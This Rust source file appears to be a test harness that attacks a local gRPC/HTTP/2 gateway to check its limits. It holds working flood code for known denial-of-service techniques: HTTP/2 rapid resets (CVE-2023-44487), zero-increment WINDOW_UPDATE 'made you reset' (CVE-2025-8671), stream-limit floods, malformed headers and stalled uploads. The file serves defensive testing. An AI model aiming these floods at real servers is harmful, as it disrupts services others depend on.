//! Requests that are not meant.

use std::time::Duration;

use bytes::{BufMut as _, Bytes, BytesMut};
use e2e::{Frame, kind, literal_block};
use futures_util::future::join_all;
use tokio::time::timeout;

use super::hpack::{Head, in_frames, stream};
use super::{CLOSED, OPEN, Target, batched};
use crate::attack::{Attack, Backend, Work};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid_resets",
        does: "requests to a mute backend, each reset at once (CVE-2023-44487)",
        work: |target| taken_back(target, || Head::new("localhost", "/t.T/Mute", &[], 0), cancel),
        limits: &["rapid_resets"],
        ..Attack::USUAL
    },
    Attack {
        name: "rapid_resets_bought",
        does: "the same, with a request before each that the gateway itself turns away",
        work: bought,
        limits: &["rapid_resets"],
        ..Attack::USUAL
    },
    Attack {
        name: "rapid_resets_explained",
        does: "the same, each request with `grpc-timeout: 1n`",
        work: |target| {
            let head = || Head::new("localhost", "/t.T/Mute", &[("grpc-timeout", "1n")], 1);
            taken_back(target, head, cancel)
        },
        limits: &["rapid_resets"],
        ..Attack::USUAL
    },
    Attack {
        name: "expired_uploads",
        does: "60 KiB of body each for RPCs that end by `grpc-timeout: 20m`, 20 ms, while a backend opens no window; 20 connections",
        work: expired,
        backend: Backend::Shut,
        ..Attack::USUAL
    },
    Attack {
        name: "rapid_resets_below",
        does: "900 of them on each of ever new connections: fewer than the limit",
        work: below,
        ..Attack::USUAL
    },
    Attack {
        name: "made_you_reset",
        does: "requests, each with a WINDOW_UPDATE of zero that makes the gateway reset it (CVE-2025-8671)",
        work: |target| {
            let head = || Head::new("localhost", "/t.T/Mute", &[], 0);
            taken_back(target, head, |stream| {
                Frame::bytes(kind::WINDOW_UPDATE, 0, stream, &[0; 4])
            })
        },
        limits: &["provoked_resets"],
        ..Attack::USUAL
    },
    Attack {
        name: "streams_over_the_limit",
        does: "requests without end to a mute backend, beyond `max_concurrent_streams`",
        work: |target| {
            taken_back(
                target,
                || Head::new("localhost", "/t.T/Mute", &[], 0),
                |_| Bytes::new(),
            )
        },
        limits: &["refused_streams"],
        ..Attack::USUAL
    },
    Attack {
        name: "malformed_heads",
        does: "heads with a name of length zero, one after another",
        work: malformed,
        limits: &["provoked_resets"],
        ..Attack::USUAL
    },
    Attack {
        name: "no_route",
        does: "requests for a host without a route at full rate: a client that always has something to read",
        work: |target| asked(target, "nobody.example", false),
        ..Attack::USUAL
    },
    Attack {
        name: "no_route_unread",
        does: "the same from a client that never reads the answers",
        work: |target| asked(target, "nobody.example", true),
        ..Attack::USUAL
    },
    Attack {
        name: "full_rate",
        does: "valid requests, 100 at a time, as fast as a backend answers",
        work: |target| {
            Box::pin(async move {
                target.ask(&Head::new("localhost", "/t.T/Ask", &[], 0), 100).await;
                target.tally()
            })
        },
        backend: Backend::Answers,
        ..Attack::USUAL
    },
];

fn cancel(stream: u32) -> Bytes {
    Frame::bytes(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// RPCs that bring all that a stream may and are over soon after.
fn expired(target: Target) -> Work {
    /// At once on a connection, and until the next ones.
    const FLIGHT: u32 = 16;
    const PAUSE: Duration = Duration::from_millis(20);
    Box::pin(async move {
        let head = Head::new("localhost", "/t.T/Mute", &[("grpc-timeout", "20m")], 1);
        let piece = vec![7; 15_000];
        let uploading = (0..20).map(async |_| {
            while !target.is_over() {
                let Some(mut connection) = target.client(&[]).await else {
                    continue;
                };
                let mut number = 0;
                while !target.is_over() {
                    let mut flight = BytesMut::new();
                    for _ in 0..FLIGHT {
                        flight.put(head.frame(number, false));
                        (0..4).for_each(|_| flight.put(Frame::bytes(kind::DATA, 0, stream(number), &piece)));
                        number += 1;
                    }
                    target.sent(flight.len());
                    let written = timeout(target.left(), connection.write(&flight)).await;
                    if !matches!(written, Ok(Ok(()))) {
                        break;
                    }
                    // The gateway's frames are read, or its credit never comes.
                    timeout(PAUSE, async { while connection.read().await.is_some() {} })
                        .await
                        .ok();
                }
                target.ended(if target.is_over() { OPEN } else { CLOSED });
            }
        });
        join_all(uploading).await;
        target.tally()
    })
}

/// Requests, each followed by this frame.
fn taken_back(target: Target, head: impl Fn() -> Head + 'static, then: fn(u32) -> Bytes) -> Work {
    Box::pin(async move {
        let head = head();
        let requests = || {
            let head = head.clone();
            batched((0..).map(move |number| {
                let mut pair = BytesMut::from(&head.frame(number, false)[..]);
                pair.put(then(stream(number)));
                pair.freeze()
            }))
        };
        target.flood(&[], requests).await;
        target.tally()
    })
}

fn below(target: Target) -> Work {
    Box::pin(async move {
        let head = Head::new("localhost", "/t.T/Mute", &[], 0);
        let mut resets = BytesMut::new();
        for number in 0..900 {
            resets.put(head.frame(number, false));
            resets.put(cancel(stream(number)));
        }
        while !target.is_over() {
            let Some(mut connection) = target.client(&[]).await else {
                continue;
            };
            target.sent(resets.len());
            connection.write(&resets).await.ok();
            connection.close_writing().await;
            let ending = connection.ending(target.left()).await;
            target.ended_by(ending.as_ref());
        }
        target.tally()
    })
}

fn bought(target: Target) -> Work {
    Box::pin(async move {
        let turned_away = Head::new("nobody.example", "/t.T/Mute", &[], 0);
        // The second head's fields come into the table after the first's.
        let meant = literal_block(&[
            (":method", "POST"),
            (":scheme", "https"),
            (":path", "/t.T/Mute"),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
        ]);
        let requests = || {
            let (turned_away, meant) = (turned_away.clone(), meant.clone());
            batched((0..).map(move |number| {
                let mut all = BytesMut::from(&turned_away.frame(2 * number, true)[..]);
                let id = stream(2 * number + 1);
                all.put(Frame::bytes(kind::HEADERS, e2e::flags::END_HEADERS, id, &meant));
                all.put(cancel(id));
                all.freeze()
            }))
        };
        target.flood(&[], requests).await;
        target.tally()
    })
}

fn malformed(target: Target) -> Work {
    Box::pin(async move {
        let block = literal_block(&[
            (":method", "POST"),
            (":scheme", "https"),
            (":path", "/t.T/Mute"),
            (":authority", "localhost"),
            ("", "nameless"),
        ]);
        let requests = || {
            let block = block.clone();
            batched((0..).map(move |number| in_frames(stream(number), &block)))
        };
        target.flood(&[], requests).await;
        target.tally()
    })
}

fn asked(target: Target, authority: &'static str, deaf: bool) -> Work {
    Box::pin(async move {
        let head = Head::new(authority, "/t.T/Ask", &[], 0);
        let requests = || {
            let head = head.clone();
            batched((0..).map(move |number| head.frame(number, true)))
        };
        if deaf {
            target.deaf_flood(&[], requests).await;
        } else {
            target.flood(&[], requests).await;
        }
        target.tally()
    })
}
